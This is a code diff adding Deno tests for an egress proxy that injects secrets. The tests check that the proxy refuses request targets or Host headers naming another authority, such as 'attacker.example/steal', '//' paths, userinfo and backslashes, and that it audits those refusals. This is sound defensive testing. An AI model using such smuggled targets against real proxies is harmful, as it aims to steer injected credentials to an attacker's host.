@@ -596,6 +596,101 @@ Deno.test("egress proxy injects a secret into its header for its host only, and 
   );
 });
 
+Deno.test("egress proxy refuses inside a secret's tunnel a request naming another authority (403 over TLS, audited denied), and sends a matching one in origin form", async () => {
+  const ca = await testCa();
+  await using secret = await startUpstream({ name: "secret.test", ca, hostname: "127.0.0.2" });
+  await using proxy = await startEgressProxy();
+  await proxy.writePolicy("s-a", {
+    allow: [nameEntry("secret.test", secret.port)],
+    addresses: LOOPBACK,
+    hosts: { "secret.test": secret.hostname },
+    secrets: [SECRET],
+  });
+  await proxy.sync();
+  const url = await proxy.bridge("s-a");
+  const send = (target: string, args: string[] = []): Promise<CurlResult> =>
+    curl(url, `${secret.url}/`, {
+      cacert: proxy.caFile,
+      args: ["--request-target", target, "-H", `Authorization: ${PLACEHOLDER}`, ...args],
+    });
+  const here = `secret.test:${secret.port}`;
+  const refusals: [string, string[], RegExp][] = [
+    [
+      "http://attacker.example/steal?x=1",
+      [],
+      new RegExp(
+        `^Request target 'http://attacker\\.example/steal\\?x=1' names 'attacker\\.example:80', not this tunnel's 'secret\\.test:${secret.port}'$`,
+      ),
+    ],
+    [`https://attacker.example:${secret.port}/`, [], /names 'attacker\.example:\d+'/],
+    ["https://secret.test/steal", [], /names 'secret\.test:443', not this tunnel's/],
+    [`https://u@${here}/`, [], /carries userinfo/],
+    ["//attacker.example/steal", [], /path starting with '\/\/'/],
+    ["*", ["-X", "OPTIONS"], /'\*' is neither origin-form/],
+    ["/steal", ["-H", "Host: attacker.example"], /Host header 'attacker\.example' does not match/],
+  ];
+  for (const [target, args, reason] of refusals) {
+    const refused = await send(target, args);
+    assert.equal(refused.code, 0, refused.stderr);
+    assert.equal(refused.status, 403, `${target}: ${refused.stdout}`);
+    assert.match(refused.stdout.trim(), reason, target);
+  }
+  // Nothing reached the secret's host: the refusals came before it was dialled.
+  assert.equal(secret.connections, 0);
+  const lines = await waitForCount(proxy, () => true, refusals.length);
+  for (const line of lines) {
+    assert.equal(line.destination, "secret.test");
+    assert.equal(line.decision, "denied", JSON.stringify(line));
+    assert.deepEqual(line.secrets, []);
+    assert.match(line.reason ?? "", /^Request (target|Host header) /);
+  }
+
+  // The tunnel's own authority, written any way, goes upstream in origin form with the secret.
+  for (const target of [`https://${here}/ok?x=1`, `HTTPS://SECRET.Test.:${secret.port}/case`]) {
+    assertCurlOk(await send(target));
+  }
+  assert.deepEqual(
+    secret.requests.map((r) => [r.path, r.headers.host, r.headers.authorization]),
+    [
+      ["/ok?x=1", here, "Bearer s3cret-value"],
+      ["/case", here, "Bearer s3cret-value"],
+    ],
+  );
+  const injected = await waitForCount(proxy, (l) => l.secrets.length > 0, 2);
+  assert.ok(injected.every((l) => l.decision === "allowed" && l.reason === undefined));
+});
+
+Deno.test("egress proxy forwards http:// in origin form under the Host it checked, and refuses userinfo, '//' paths and a Host naming another port", async () => {
+  const ca = await testCa();
+  await using plain = await startUpstream({ name: "plain.test", ca, tls: false });
+  const { proxy, url } = await proxyFor([plain]);
+  await using _proxy = proxy;
+  const here = `plain.test:${plain.port}`;
+  const ok = await rawExchange(
+    url,
+    `GET http://Plain.Test.:${plain.port}/x?y=1 HTTP/1.1\r\nHost: PLAIN.test:${plain.port}\r\n\r\n`,
+  );
+  assert.equal(statusOf(ok), 200, ok);
+  assert.deepEqual(
+    plain.requests.map((r) => [r.path, r.headers.host]),
+    [["/x?y=1", here]],
+  );
+  const refusals: [string, string, RegExp][] = [
+    [`http://u:p@${here}/`, here, /carries userinfo/],
+    [`http://${here}//evil.test/`, here, /path starting with '\/\/'/],
+    [`http://${here}/a\\b`, here, /a backslash/],
+    [`http://${here}/`, "plain.test", /Host header 'plain\.test' does not match/],
+  ];
+  for (const [target, host, reason] of refusals) {
+    const answer = await rawExchange(url, `GET ${target} HTTP/1.1\r\nHost: ${host}\r\n\r\n`);
+    assert.equal(statusOf(answer), 403, answer);
+    assert.match(bodyOf(answer), reason);
+  }
+  assert.equal(plain.connections, 1);
+  const lines = await waitForCount(proxy, (l) => l.decision === "denied", refusals.length);
+  assert.ok(lines.every((l) => l.address === null), JSON.stringify(lines));
+});
+
 Deno.test("egress proxy does not forward a secret to an upstream whose certificate does not verify", async (t) => {
   const ca = await testCa();
   const policyFor = (upstream: Upstream): Parameters<EgressProxy["writePolicy"]>[1] => ({
